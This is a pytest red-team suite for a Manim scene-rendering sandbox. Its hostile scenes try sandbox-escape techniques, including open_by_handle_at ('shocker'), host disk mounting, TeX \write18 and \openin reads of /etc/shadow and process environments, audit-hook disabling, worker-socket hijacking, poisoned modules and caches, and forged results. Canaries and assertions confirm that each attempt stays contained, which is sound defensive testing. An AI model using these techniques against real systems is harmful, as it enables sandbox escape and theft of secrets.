"""Red-team suite for the sandbox (issue 13): hostile scenes that try to get out, judged on the host.

Every test runs a hostile scene through a real entry point (`manim_agent.cli.main(["check", ...])`,
`["render", ...]` or `render_scene.check_file`) with bubblewrap in use, as on a normal install, and
then looks *on the host* for what the attack wanted: a canary's content in the output or in any file
the test can see, a changed host file, a process still alive, a later job answered wrongly.

Layers (each test says which one it targets):
- FULL: the whole stack. The scene gets past the static safety policy by itself (see
  tests/hostile/prelude.py for the tricks).
- OS: the static policy is switched off (`no_policy` fixture) and the scene switches the audit hook
  off from inside where it needs to, so only the operating system's boundary is left.
- HOOK: the audit hook is left on; the attack uses what it does not see (C code, dir_fd paths, TeX).

A scene reports success by raising RuntimeError("ESC"+"APED: ..."); canaries hold random tokens that
only the host knows, so a token in the output means the attack really read the file.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from manim_agent import cli
from manim_agent.tools import render_scene
from manim_agent.tools.sandbox import client as sandbox
from manim_agent.tools.static import safety as safety_policy

HOSTILE = Path(__file__).resolve().parent / "hostile"
PRELUDE = (HOSTILE / "prelude.py").read_text(encoding="utf-8")
HELPER = (HOSTILE / "helper_program.py").read_text(encoding="utf-8")
TAG = "ESC" + "APED"  # never written out, see the module docstring

BWRAP = sandbox.sandbox_method() == "bwrap" if hasattr(sandbox, "sandbox_method") else bool(shutil.which("bwrap"))
needs_bwrap = pytest.mark.skipif(not BWRAP, reason="bubblewrap is not usable here")
PACKAGE_ROOT = Path(render_scene.__file__).resolve().parent.parent
x86_64 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="syscall numbers are x86_64's")
ext4_tmp = pytest.mark.skipif(
    subprocess.run(["stat", "-f", "-c", "%T", tempfile.gettempdir()], capture_output=True, text=True).stdout.strip()
    != "ext2/ext3",
    reason="the shocker technique below targets ext4's root inode",
)


# --------------------------------------------------------------------------------------- harness


@dataclass
class Box:
    """One test's private world: state directory, fake HOME, canaries, and what to clean up."""

    tmp: Path
    state: Path
    home: Path
    canary: Path  # a host file in a directory that is never mounted
    key_file: Path  # ~/.ssh/id_canary under the fake HOME
    tokens: dict[str, str] = field(default_factory=dict)
    markers: list[str] = field(default_factory=list)

    def token(self, name: str) -> str:
        return self.tokens.setdefault(name, f"{name}-{uuid.uuid4().hex}")

    def marker(self) -> str:
        marker = f"rt13marker{uuid.uuid4().hex[:12]}"
        self.markers.append(marker)
        return marker

    def scene(self, body: str, name: str = "hostile.py", classname: str = "Hostile", **params: object) -> Path:
        path = self.tmp / name
        path.write_text(hostile_source(body, classname=classname, helper=HELPER, **params), encoding="utf-8")
        return path

    def visible_text(self, *extra: Path) -> str:
        """Every file the test can see after the job: the state directory, the fake HOME, outputs."""
        chunks = []
        for root in (self.state, self.home, *extra):
            for path in root.rglob("*") if root.exists() else []:
                with contextlib.suppress(OSError):
                    if path.is_file() and not path.is_symlink() and path.stat().st_size < 50_000_000 \
                            and not path.name.startswith("manim-api-"):
                        chunks.append(f"=== {path} ===\n" + path.read_bytes().decode(errors="replace"))
        return "\n".join(chunks)


def hostile_source(body: str, *, classname: str = "Hostile", **params: object) -> str:
    prelude = PRELUDE.replace("PARAMS = {}  # filled in by the test", f"PARAMS = {params!r}", 1)
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), " " * 8)
    return f"{prelude}\n\nclass {classname}(Scene):\n    def construct(self):\n{body}\n"


@pytest.fixture(scope="session")
def api_index(state_home: Path) -> list[Path]:
    """The index of the installed Manim, built once (about 30 s) and copied into each test's state."""
    from manim_agent.tools.static.checks import run_static_checks

    run_static_checks("from manim import *\n\nclass A(Scene):\n    def construct(self):\n        self.add(Dot())\n")
    found = sorted((state_home / "cache").glob("manim-api-*.json"))
    assert found, "the API index was not built where expected"
    return found


@pytest.fixture
def box(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, api_index: list[Path]):
    """A fresh state directory (so a poisoned worker or cache never leaks into another test) and a
    fake HOME holding canaries; every process that carries the test's paths or markers is killed."""
    state = Path(tempfile.mkdtemp(prefix="rt13-", dir="/tmp"))  # short: Unix socket paths are limited
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    b = Box(tmp=tmp_path, state=state, home=home, canary=tmp_path / "host-only" / "canary.txt",
            key_file=home / ".ssh" / "id_canary")
    b.canary.parent.mkdir()
    b.canary.write_text(b.token("CANARY") + "\n")
    b.key_file.write_text(b.token("SSHKEY") + "\n")
    (home / ".bashrc").write_text("# original bashrc\n")
    (state / "cache").mkdir(mode=0o700)
    for index in api_index:
        shutil.copy(index, state / "cache" / index.name)
    monkeypatch.setenv("MANIM_AGENT_HOME", str(state))
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)
    try:
        yield b
    finally:
        with contextlib.suppress(Exception):
            sandbox.shutdown_all_workers()
        deadline = time.monotonic() + 3
        needles = [str(state), *b.markers]
        while (pids := processes_with(*needles)) and time.monotonic() < deadline:
            for pid in pids:
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
            time.sleep(0.2)
        shutil.rmtree(state, ignore_errors=True)


@pytest.fixture
def no_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Layer OS/HOOK: switch the static safety policy off, so the scene reaches the sandbox."""
    assert hasattr(safety_policy, "check_safety"), "the static policy moved: update this fixture"
    monkeypatch.setattr(safety_policy, "check_safety", lambda *args, **kwargs: [])


def processes_with(*needles: str) -> list[int]:
    """Host processes (not this one) whose command line contains one of `needles`."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        with contextlib.suppress(OSError):
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            if any(n in cmdline for n in needles):
                found.append(int(entry.name))
    return found


@dataclass
class Run:
    code: int
    out: str
    data: dict


def run_cli(capsys: pytest.CaptureFixture, *argv: str) -> Run:
    capsys.readouterr()
    try:
        code = cli.main(list(argv))
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    captured = capsys.readouterr()
    text = captured.out + captured.err
    data: dict = {}
    for line in reversed(captured.out.strip().splitlines()):
        with contextlib.suppress(ValueError):
            data = json.loads(line)
            break
    diagnosis = data.get("diagnosis") or data
    assert diagnosis.get("category") != "syntax", f"the hostile scene itself is broken: {text[:600]}"
    return Run(code, text, data)


def check(capsys: pytest.CaptureFixture, path: Path, timeout: float = 20) -> Run:
    return run_cli(capsys, "check", str(path), "--json", "--no-layout", "--timeout", str(timeout))


def assert_contained(b: Box, *texts: str, extra: tuple[Path, ...] = (), trust_scene: bool = True) -> None:
    """No canary token, and (with `trust_scene`) no success report, anywhere the test can see.

    Tests whose proof is on the host (a file written, a job tampered with) pass trust_scene=False:
    a write into the sandbox's own private view is not an escape, whatever the scene believes."""
    seen = "\n".join(texts) + "\n" + b.visible_text(*extra)
    seen_outside_home = "\n".join(texts) + "\n" + b.visible_text(*extra).replace(b.key_file.read_text(), "")
    if trust_scene:
        assert TAG not in seen, _excerpt(seen, TAG)
    assert b.tokens["CANARY"] not in seen, _excerpt(seen, b.tokens["CANARY"])
    assert b.tokens["SSHKEY"] not in seen_outside_home, _excerpt(seen_outside_home, b.tokens["SSHKEY"])
    for name, token in b.tokens.items():
        if name not in ("CANARY", "SSHKEY"):
            assert token not in seen, _excerpt(seen, token)


def _excerpt(text: str, needle: str) -> str:
    at = text.find(needle)
    return f"the attack got out: ...{text[max(0, at - 300): at + 300]}..."


# ------------------------------------------------------------ 1. host file system: open_by_handle_at


@needs_bwrap
@ext4_tmp
def test_shocker_through_ctypes_cannot_read_host_files(box: Box, capsys, no_policy) -> None:
    """OS layer: audit hook switched off, then open_by_handle_at() on ext4's root inode and an
    openat() down to a canary in a host directory the sandbox never mounts."""
    path = box.scene("""
        unhook()
        data, how = shocker(PARAMS["target"])
        if data is not None:
            leak("shocker", data)
        held(how)
    """, target=str(box.canary))
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
@ext4_tmp
def test_shocker_through_a_helper_named_latex_cannot_read_host_files(box: Box, capsys, no_policy) -> None:
    """OS layer (no hook at all): the scene installs its own program as `latex` on PATH, so Manim
    itself starts it for a MathTex; the program runs the shocker technique natively."""
    path = box.scene("""
        install_helper("helper.py")
        with open("latex", "w") as w:
            w.write("#!/bin/sh\\nexec " + OS.path.abspath("helper.py") + " " + OS.path.abspath("latex.results")
                    + " shocker=" + PARAMS["target"] + "\\n")
        OS.chmod("latex", 0o755)
        OS.environ["PATH"] = OS.getcwd() + ":" + OS.environ.get("PATH", "")
        try:
            MathTex(r"\\sqrt{2}\\neq 1")
        except BaseException:
            pass
        report = try_read("latex.results") or ""
        if "shocker read" in report:
            leak(report)
        held(report or "the helper did not run")
    """, target=str(box.canary))
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_host_disk_cannot_be_mounted(box: Box, capsys, no_policy) -> None:
    """OS layer: hook off, then mount a fresh tmpfs (which allows device nodes), mknod the block
    device that holds the job directory, mount it (never written) and read the canary through it."""
    path = box.scene("""
        unhook()
        ctypes, c = libc()
        st = OS.stat(".")
        dev = OS.makedev(OS.major(st.st_dev), OS.minor(st.st_dev))
        base = "/tmp/rt13-mnt-" + str(OS.getpid())
        OS.makedirs(base, exist_ok=True)
        steps = [("tmpfs", c.mount(b"none", base.encode(), b"tmpfs", 0, None), ctypes.get_errno())]
        OS.makedirs(base + "/root", exist_ok=True)
        steps.append(("mknod", c.mknod((base + "/disk").encode(), 0o060600, ctypes.c_ulong(dev)), ctypes.get_errno()))
        for fstype in (b"ext4", b"xfs", b"btrfs"):
            if c.mount((base + "/disk").encode(), (base + "/root").encode(), fstype, 0, None) == 0:
                steps.append(("mount", fstype))
                break
        data = try_read(base + "/root/" + PARAMS["target"].lstrip("/"))
        c.umount2((base + "/root").encode(), 2)
        c.umount2(base.encode(), 2)
        if data:
            leak("mounted the host disk", data)
        held(steps)
    """, target=str(box.canary))
    run = check(capsys, path)
    assert_contained(box, run.out)


# ------------------------------------------------------------ 2. programs named latex, TeX itself

FAKE_LATEX_PROBE = """
    with open("latex", "w") as w:
        w.write("#!/bin/sh\\necho ran > " + OS.path.abspath("fake.ran") + "\\nexit 1\\n")
    OS.chmod("latex", 0o755)
"""


@needs_bwrap
def test_a_program_named_latex_on_path_never_runs(box: Box, capsys) -> None:
    """FULL stack, hook on: the scene puts its own `latex` first on PATH; Manim must run the real one."""
    path = box.scene(FAKE_LATEX_PROBE + """
    vars(OS)["environ"]["PATH"] = OS.getcwd() + ":" + vars(OS)["environ"]["PATH"]
    try:
        MathTex(r"a^2+b^2=c^2")
    except BaseException:
        pass
    if try_read("fake.ran"):
        leak("Manim ran the scene's own latex")
    self.add(MathTex(r"a^2+b^2=c^2"))
    """)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_a_program_named_latex_in_the_job_dir_cannot_be_started(box: Box, capsys) -> None:
    """FULL stack, hook on: the allowlist used to check the program's name only."""
    path = box.scene(FAKE_LATEX_PROBE + """
    from manim.utils.tex_file_writing import subprocess as sp
    try:
        sp.run(["./latex"], timeout=5)
    except BaseException:
        pass
    if try_read("fake.ran"):
        leak("./latex ran")
    held("refused")
    """)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_tex_write18_shell_escape_does_not_run(box: Box, capsys) -> None:
    """FULL stack: \\write18 (shell escape) from a MathTex; the shell command would create a file."""
    path = box.scene(r"""
    here = OS.getcwd()
    try:
        MathTex(r"\immediate\write18{touch " + here + r"/w18.ran}x")
    except BaseException:
        pass
    try:
        MathTex(r"\immediate\write18{kpsewhich --version > " + here + r"/w18r.ran}y")
    except BaseException:
        pass
    if try_read("w18.ran") is not None or try_read("w18r.ran") is not None:
        leak("write18 ran a shell command")
    held("no shell escape")
    """)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_tex_piped_input_does_not_run_programs(box: Box, capsys) -> None:
    """FULL stack: restricted shell escape still runs kpsewhich through \\openin|"..."; the output
    would surface in the LaTeX error the diagnosis shows."""
    path = box.scene(r"""
    self.add(MathTex(r"\newread\rtp\immediate\openin\rtp=|" + '"kpsewhich --version"' + r" \read\rtp to\rtx \errmessage{XX\rtx}"))
    """)
    run = check(capsys, path)
    assert "XXkpathsea" not in run.out and "XXkpsewhich" not in run.out, _excerpt(run.out, "XXkp")


def _tex_reader(target: str) -> str:
    # \openin a file, \read its first line, put it into an error message that the diagnosis shows.
    return ("self.add(MathTex(r\"\\newread\\rtf\\immediate\\openin\\rtf=" + target
            + " \\read\\rtf to\\rtx \\errmessage{XX\\rtx}\"))")


@needs_bwrap
@pytest.mark.parametrize("target", ["/etc/shadow", "/proc/1/environ", "/proc/self/environ", "DOTENV"])
def test_tex_openin_cannot_read_secrets(box: Box, capsys, monkeypatch, target: str) -> None:
    """FULL stack: TeX's \\openin/\\read run outside the audit hook. /etc/shadow, process
    environments (an API key is exported on the host) and a .env next to the code, created after
    the worker started, must all stay unreadable."""
    monkeypatch.setenv("OPENAI_API_KEY", box.token("APIKEY"))
    created = None
    if target == "DOTENV":
        warm = box.scene("self.add(Dot())", name="warm.py")
        assert check(capsys, warm).data.get("ok"), "the honest warm-up check failed"
        dotenv = PACKAGE_ROOT / ".env"
        if dotenv.exists():
            pytest.skip(f"{dotenv} exists; this test never touches a real .env")
        dotenv.write_text(f"DEEPSEEK_API_KEY={box.token('DOTENV')}\n")
        created = dotenv
        target = str(dotenv)
    try:
        path = box.scene(_tex_reader(target))
        run = check(capsys, path)
    finally:
        if created:
            created.unlink()
    assert "XXroot:" not in run.out, "TeX read /etc/shadow"
    assert_contained(box, run.out)


# ------------------------------------------------------------ 3. the audit hook switched off


@needs_bwrap
@pytest.mark.parametrize("technique", ["subclasses", "frames", "sys.modules", "gc"])
def test_hook_switched_off_still_gets_no_secrets(box: Box, capsys, technique: str) -> None:
    """FULL stack: the scene switches the hook off (object.__subclasses__, traceback frames,
    sys.modules, gc), then runs a shell and opens secrets. What it reaches must be what the OS allows:
    no /etc/shadow, no host canary, no ~/.ssh under the user's HOME, no process as real root."""
    path = box.scene("""
        done = unhook(PARAMS["technique"])
        found = []
        for target in ("/etc/shadow", PARAMS["canary"], PARAMS["key"]):
            data = try_read(target)
            if data:
                found.append((target, data))
        try:
            code, out = sh("cat /etc/shadow " + PARAMS["canary"] + " " + PARAMS["key"] + " 2>/dev/null | head -c 300")
            if out.strip():
                found.append(("sh", out))
        except BaseException as exc:
            found.append(("no shell", repr(exc)[:80]))
        status = try_read("/proc/self/status") or ""
        caps = [line for line in status.splitlines() if line.startswith("CapEff")]
        if caps and caps[0].split()[1].strip("0"):
            found.append(("capabilities", caps[0]))
        if [f for f in found if f[0] != "no shell"]:
            leak(done, found)
        held(done, found)
    """, technique=technique, canary=str(box.canary), key=str(box.key_file))
    run = check(capsys, path)
    assert_contained(box, run.out)


C_WRITES = """
    cairo_mod = module("manim.camera.camera").cairo
    av_mod = module("manim.scene.scene_file_writer").av
    results = []
    for folder in PARAMS["targets"]:
        for how in ("png", "svg", "av"):
            target = OS.path.join(folder, "rt13-cwrite-" + how + "." + ("png" if how == "png" else "svg" if how == "svg" else "mp4"))
            try:
                if how == "png":
                    cairo_mod.ImageSurface(cairo_mod.FORMAT_ARGB32, 4, 4).write_to_png(target)
                elif how == "svg":
                    surface = cairo_mod.SVGSurface(target, 4, 4)
                    surface.finish()
                else:
                    container = av_mod.open(target, "w")
                    container.close()
                results.append(target)
            except BaseException as exc:
                pass
    if results:
        leak("C code wrote", results)
    held("no C-level write got out")
"""


@needs_bwrap
def test_writes_from_c_code_stay_in_the_job(box: Box, capsys) -> None:
    """HOOK layer (full stack, hook on): pycairo and PyAV open files in C, which raises no audit event.
    Targets: the shared state directories, the user's HOME, a host temp directory."""
    state = box.state
    targets = [str(state / "work"), str(state / "run"), str(state / "cache"), str(state / "cache" / "tex"),
               str(state), str(box.home), str(box.canary.parent)]
    path = box.scene(C_WRITES, targets=targets)
    run = check(capsys, path)
    written = [p for root in (state, box.home, box.canary.parent) for p in root.rglob("rt13-cwrite-*")]
    assert not written, f"C code wrote host files: {written}"
    assert (box.home / ".bashrc").read_text() == "# original bashrc\n"
    assert_contained(box, run.out, trust_scene=False)


@needs_bwrap
def test_dir_fd_writes_stay_in_the_job(box: Box, capsys) -> None:
    """HOOK layer (full stack, hook on): open(name, dir_fd=...) is judged by the hook relative to the
    working directory, not to the directory descriptor; try every host directory it can open."""
    path = box.scene("""
        wrote = []
        for folder in PARAMS["targets"]:
            try:
                d = OS.open(folder, OS.O_RDONLY)
                fd = OS.open("rt13-dirfd.txt", OS.O_WRONLY | OS.O_CREAT, 0o644, dir_fd=d)
                OS.write(fd, b"pwned")
                wrote.append(folder)
            except BaseException:
                pass
        if wrote:
            leak("dir_fd writes", wrote)
        held("none")
    """, targets=[str(box.state / "work"), str(box.state / "run"), str(box.state / "cache"), str(box.home)])
    run = check(capsys, path)
    written = [p for root in (box.state, box.home) for p in root.rglob("rt13-dirfd.txt")]
    assert not written, f"dir_fd writes got out: {written}"
    assert_contained(box, run.out, trust_scene=False)


# ------------------------------------------------------------ 4. forged results


def _render(capsys, box: Box, path: Path) -> tuple[Run, Path]:
    out = box.tmp / "out"
    run = run_cli(capsys, "render", str(path), "--out", str(out), "--json", "--timeout", "60")
    return run, out


@needs_bwrap
def test_forged_outputs_are_never_copied(box: Box, capsys) -> None:
    """FULL stack: the scene replaces the runner's output finder so the result names ~/.ssh/id_canary;
    `render` must not copy it (or any file outside the job) into the output folder."""
    path = box.scene("""
        runner = module("manim_agent.tools.sandbox.child.scene_runner")
        runner.find_outputs = lambda media, fmt: [PARAMS["key"], PARAMS["canary"]]
        self.play(Create(Circle()), run_time=0.2)
    """, key=str(box.key_file), canary=str(box.canary))
    run, out = _render(capsys, box, path)
    assert_contained(box, run.out, extra=(out,))


@needs_bwrap
def test_forged_outputs_through_a_symlink_are_never_copied(box: Box, capsys) -> None:
    """FULL stack (hook switched off: it refuses symlinks to outside paths): the output named is
    inside the job directory, but it is a symlink to a host file."""
    path = box.scene("""
        unhook()
        OS_link = vars(OS)["symlink"]
        OS_link(PARAMS["key"], "Hostile.mp4")
        OS_link(PARAMS["canary"], "Other.mp4")
        here = OS.getcwd()
        runner = module("manim_agent.tools.sandbox.child.scene_runner")
        runner.find_outputs = lambda media, fmt: [here + "/Hostile.mp4", here + "/Other.mp4"]
        self.play(Create(Circle()), run_time=0.2)
    """, key=str(box.key_file), canary=str(box.canary))
    run, out = _render(capsys, box, path)
    assert_contained(box, run.out, extra=(out,))


FORGE_PIPE = """
    import json
    forged = json.dumps({"status": "ok", "scene": "Hostile", "mode": PARAMS["mode"],
                         "outputs": [PARAMS["key"], PARAMS["canary"]], "num_plays": 3, "seconds": 0.1}).encode()
    for fd in range(3, 256):
        try:
            if (OS.fstat(fd).st_mode & 0o170000) in (0o010000, 0o140000):  # a pipe or a socket
                OS.write(fd, forged)
        except BaseException:
            pass
    vars(OS)["_exit"](0)
"""


@needs_bwrap
def test_forged_result_on_the_channel_makes_render_copy_nothing(box: Box, capsys) -> None:
    """FULL stack: the scene writes a fake result into every pipe and socket it holds and exits."""
    path = box.scene(FORGE_PIPE, mode="render", key=str(box.key_file), canary=str(box.canary))
    run, out = _render(capsys, box, path)
    assert_contained(box, run.out, extra=(out,))
    assert not run.data.get("ok"), "render reported success for a forged result"


@needs_bwrap
@pytest.mark.xfail(strict=True, reason="accepted by the threat model: a scene that lies about its own success can fool "
                   "the check about itself; test_forged_result_on_the_channel_makes_render_copy_nothing holds the line")
def test_forged_result_on_the_channel_does_not_pass_the_check(box: Box, capsys) -> None:
    """FULL stack: the scene forges 'ok' (naming host files as outputs) and exits before it plays
    anything; the check must not report that it renders cleanly."""
    path = box.scene(FORGE_PIPE + "\n    raise ValueError('never reached')\n",
                     mode="check", key=str(box.key_file), canary=str(box.canary))
    run = check(capsys, path)
    assert_contained(box, run.out)
    assert run.data.get("ok") is False, f"the check believed a forged result: {run.data}"


@needs_bwrap
def test_forged_contact_sheet_frames_never_show_a_host_image(box: Box, capsys) -> None:
    """FULL stack, layout check on: the scene wraps the worker's json.dumps so the result's keyframe
    paths name a host PNG; the host draws the contact sheet from those paths."""
    from PIL import Image

    secret_png = box.canary.parent / "private.png"
    Image.new("RGB", (320, 180), (13, 201, 77)).save(secret_png)
    sheet = box.tmp / "sheet.png"
    path = box.scene("""
        json_mod = module("json")
        original = json_mod.dumps
        def forged(obj, *args, **kwargs):
            if isinstance(obj, dict) and isinstance(obj.get("layout"), dict):
                for frame in obj["layout"].get("frames") or []:
                    frame["path"] = PARAMS["png"]
            return original(obj, *args, **kwargs)
        json_mod.dumps = forged
        self.play(Create(Square()), run_time=0.3)
        self.play(FadeOut(Square()), run_time=0.3)
        self.add(Dot())
    """, png=str(secret_png))
    run_cli(capsys, "check", str(path), "--json", "--timeout", "20", "--contact-sheet", str(sheet))
    if not sheet.exists():
        return  # no sheet, nothing shown
    with Image.open(sheet) as image:
        leaked = sum(1 for pixel in image.convert("RGB").getdata() if pixel == (13, 201, 77))
    assert leaked < 200, f"the contact sheet shows {leaked} pixels of a host image"


# ------------------------------------------------------------ 5. hijacking the worker channel

HIJACK = """
    unhook()
    import json
    state = OS.path.dirname(OS.path.dirname(OS.getcwd()))
    run_dir = OS.path.join(state, "run")
    socket_mod = module("socket")
    if OS.fork() == 0:
        try:
            OS.setsid()
            if OS.fork() != 0:
                vars(OS)["_exit"](0)
            for fd in range(0, 1024):
                try:
                    OS.close(fd)
                except OSError:
                    pass
            servers = []
            for name in OS.listdir(run_dir):
                if name.endswith(".sock"):
                    path = OS.path.join(run_dir, name)
                    OS.unlink(path)
                    server = socket_mod.socket(socket_mod.AF_UNIX, socket_mod.SOCK_STREAM)
                    server.bind(path)
                    server.listen(8)
                    servers.append(server)
            deadline = module("time").monotonic() + 50
            select = module("select")
            while servers and module("time").monotonic() < deadline:
                ready, _, _ = select.select(servers, [], [], 1.0)
                for server in ready:
                    conn, _ = server.accept()
                    request = json.loads(conn.recv(65536).split(b"\\n")[0] or b"{}")
                    if request.get("action") == "ping":
                        answer = {"status": "pong", "pid": 1}
                    else:
                        answer = {"status": "ok", "scene": request.get("scene"), "num_plays": 1, "seconds": 0.1,
                                  "outputs": PARAMS["outputs"] if request.get("mode") == "render" else []}
                    conn.sendall(json.dumps(answer).encode() + b"\\n")
                    conn.close()
        finally:
            vars(OS)["_exit"](0)
    module("time").sleep(1.0)
    self.add(Dot())
"""


@needs_bwrap
def test_a_replaced_worker_socket_never_answers_later_jobs(box: Box, capsys) -> None:
    """FULL stack: the scene leaves a server on the warm worker's socket path. A later honest check
    of a broken scene must still fail, and a later render must not copy the attacker's outputs."""
    hijack = box.scene(HIJACK, name="hijack.py", outputs=[str(box.key_file), str(box.canary)])
    check(capsys, hijack)
    broken = box.tmp / "broken.py"
    broken.write_text("from manim import *\n\nclass Broken(Scene):\n    def construct(self):\n"
                      "        raise ValueError('honest failure 1234')\n")
    later = check(capsys, broken)
    assert later.data.get("ok") is False and "honest failure 1234" in later.out, f"a later job got a forged answer: {later.out[:500]}"
    honest = box.tmp / "honest.py"
    honest.write_text("from manim import *\n\nclass Honest(Scene):\n    def construct(self):\n"
                      "        self.play(Create(Square()), run_time=0.2)\n")
    run, out = _render(capsys, box, honest)
    assert run.data.get("ok"), run.out[:500]
    assert_contained(box, run.out, extra=(out,))


@needs_bwrap
def test_a_module_dropped_in_the_work_root_never_runs_in_a_later_worker(box: Box, capsys) -> None:
    """HOOK layer (full stack): the warm worker starts with the work root as its working directory,
    so it is first on sys.path. The scene drops `argparse.py` there through a dir_fd write the hook
    misjudges; after a worker restart, a later honest job must not run it."""
    payload = (
        "import os, sys\n"
        "open(os.path.join(os.getcwd(), 'rt13-poison.ran'), 'w').write('ran')\n"
        "here = sys.path.pop(0)\n"
        "del sys.modules['argparse']\n"
        "import argparse as _real\n"
        "sys.path.insert(0, here)\n"
        "sys.modules['argparse'] = _real\n"
        "globals().update(vars(_real))\n"
    )
    path = box.scene("""
        parent = OS.path.dirname(OS.getcwd())
        dropped = []
        for folder in (parent, OS.path.dirname(parent)):
            for name in ("argparse.py", "sitecustomize.py"):
                try:
                    d = OS.open(folder, OS.O_RDONLY)
                    fd = OS.open(name, OS.O_WRONLY | OS.O_CREAT | OS.O_TRUNC, 0o644, dir_fd=d)
                    OS.write(fd, PARAMS["payload"].encode())
                    OS.close(fd)
                    dropped.append(OS.path.join(folder, name))
                except BaseException:
                    pass
        self.add(Dot())
    """, payload=payload)
    check(capsys, path)
    sandbox.shutdown_all_workers()
    time.sleep(0.5)
    honest = box.tmp / "honest.py"
    honest.write_text("from manim import *\n\nclass Honest(Scene):\n    def construct(self):\n        self.add(Dot())\n")
    later = check(capsys, honest)
    assert later.data.get("ok"), later.out[:500]
    ran = list(box.state.rglob("rt13-poison.ran"))
    assert not ran, f"the dropped module ran in a later worker: {ran}"


# ------------------------------------------------------------ 6. other jobs


@needs_bwrap
def test_a_job_cannot_read_or_write_a_concurrent_job(box: Box, capsys) -> None:
    """HOOK layer (full stack): a victim job runs for a few seconds with a secret in its own files;
    an attacker job running at the same time looks through every job directory it can see."""
    secret = box.token("VICTIM")
    victim = box.tmp / "victim.py"
    victim.write_text(
        "from manim import *\nimport os, time\n\nclass Victim(Scene):\n    def construct(self):\n"
        f"        note = 'VICTIM-SECRET {secret}'\n"
        "        with open('notes.txt', 'w') as f:\n            f.write(note)\n"
        "        for _ in range(200):\n"
        "            if os.path.exists('go.txt'):\n                break\n"
        "            time.sleep(0.1)\n"
        "        if os.path.exists('planted.txt'):\n"
        "            raise RuntimeError('another job wrote into this job directory')\n"
        "        self.add(Dot())\n"
    )
    result: dict = {}
    thread = threading.Thread(target=lambda: result.update(d=render_scene.check_file(victim, timeout=30)))
    thread.start()
    try:
        deadline = time.monotonic() + 45
        while not list((box.state / "work").glob("*/notes.txt")) and time.monotonic() < deadline:
            time.sleep(0.2)  # the victim is running and has written its notes
        attacker = box.scene("""
            mine = OS.getcwd()
            root = OS.path.dirname(mine)
            found, wrote = [], []
            for name in OS.listdir(root):
                other = OS.path.join(root, name)
                if other == mine or not OS.path.isdir(other):
                    continue
                for file in OS.listdir(other):
                    data = try_read(OS.path.join(other, file))
                    if data and "VICTIM-SECRET" in data:
                        found.append(data)
                try:
                    d = OS.open(other, OS.O_RDONLY)
                    fd = OS.open("planted.txt", OS.O_WRONLY | OS.O_CREAT, 0o644, dir_fd=d)
                    OS.write(fd, b"x")
                    wrote.append(other)
                except BaseException:
                    pass
            if found:
                leak(found, wrote)
            held("saw nothing", wrote)
        """, name="attacker.py")
        run = check(capsys, attacker)
    finally:
        for notes in (box.state / "work").glob("*/notes.txt"):
            (notes.parent / "go.txt").write_text("go")
        thread.join(60)
    assert_contained(box, run.out)
    victim_result = result["d"]
    assert victim_result.ok, f"the victim job was tampered with: {victim_result.to_json()}"


# ------------------------------------------------------------ 7. LaTeX cache

HONEST_FORMULA = """from manim import *

class Honest(Scene):
    def construct(self):
        formula = MathTex("E=mc^2")
        glyphs = len(formula.family_members_with_points())
        if glyphs != 5 or not 0.5 < formula.width < 3:
            raise ValueError(f"E=mc^2 came out wrong: {glyphs} glyphs, width {formula.width:.2f}")
        self.play(Write(formula), run_time=0.2)
"""

POISON = '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="10" viewBox="0 0 400 10"><path d="M0 0H400V10H0Z"/></svg>'


@needs_bwrap
def test_a_poisoned_tex_cache_entry_never_reaches_a_later_scene(box: Box, capsys) -> None:
    """FULL stack (hook on): the scene renders E=mc^2, then overwrites every cached SVG (and plants
    entries for the formula in every writable tex folder) with one long bar."""
    path = box.scene("""
        MathTex("E=mc^2")
        tex_dir = config["tex_dir"]
        poisoned = []
        for name in OS.listdir(tex_dir):
            if name.endswith(".svg"):
                try:
                    with open(OS.path.join(tex_dir, name), "w") as handle:
                        handle.write(PARAMS["poison"])
                    poisoned.append(name)
                except BaseException:
                    pass
        self.add(Dot())
    """, poison=POISON)
    check(capsys, path)
    honest = box.tmp / "honest.py"
    honest.write_text(HONEST_FORMULA)
    later = check(capsys, honest)
    assert later.data.get("ok"), f"a later scene got the poisoned formula: {later.out[:800]}"


# ------------------------------------------------------------ 8. limits


@needs_bwrap
@pytest.mark.parametrize("how", ["setsid", "double-fork", "helper-named-latex"])
def test_no_process_outlives_the_check(box: Box, capsys, how: str) -> None:
    """OS layer (hook off where needed): processes in a new session, a double fork, or started by a
    program named latex, try to outlive the check. None may be alive once it returns."""
    marker = box.marker()
    bodies = {
        "setsid": """
            unhook()
            module("subprocess").Popen(["/bin/sh", "-c", "sleep 120; : " + PARAMS["marker"]], start_new_session=True)
        """,
        "double-fork": """
            unhook()
            if OS.fork() == 0:
                OS.setsid()
                if OS.fork() == 0:
                    OS.execv("/bin/sh", ["/bin/sh", "-c", "sleep 120; : " + PARAMS["marker"]])
                vars(OS)["_exit"](0)
        """,
        "helper-named-latex": """
            install_helper("helper.py")
            with open("latex", "w") as w:
                w.write("#!/bin/sh\\nexec " + OS.path.abspath("helper.py") + " /dev/null linger=" + PARAMS["marker"] + "\\n")
            OS.chmod("latex", 0o755)
            vars(OS)["environ"]["PATH"] = OS.getcwd() + ":" + vars(OS)["environ"]["PATH"]
            try:
                MathTex("x^3")
            except BaseException:
                pass
        """,
    }
    path = box.scene(textwrap.dedent(bodies[how]) + "\nself.add(Dot())\n", marker=marker)
    run = check(capsys, path)
    assert run.data.get("stage") == "dry_run", run.out[:400]
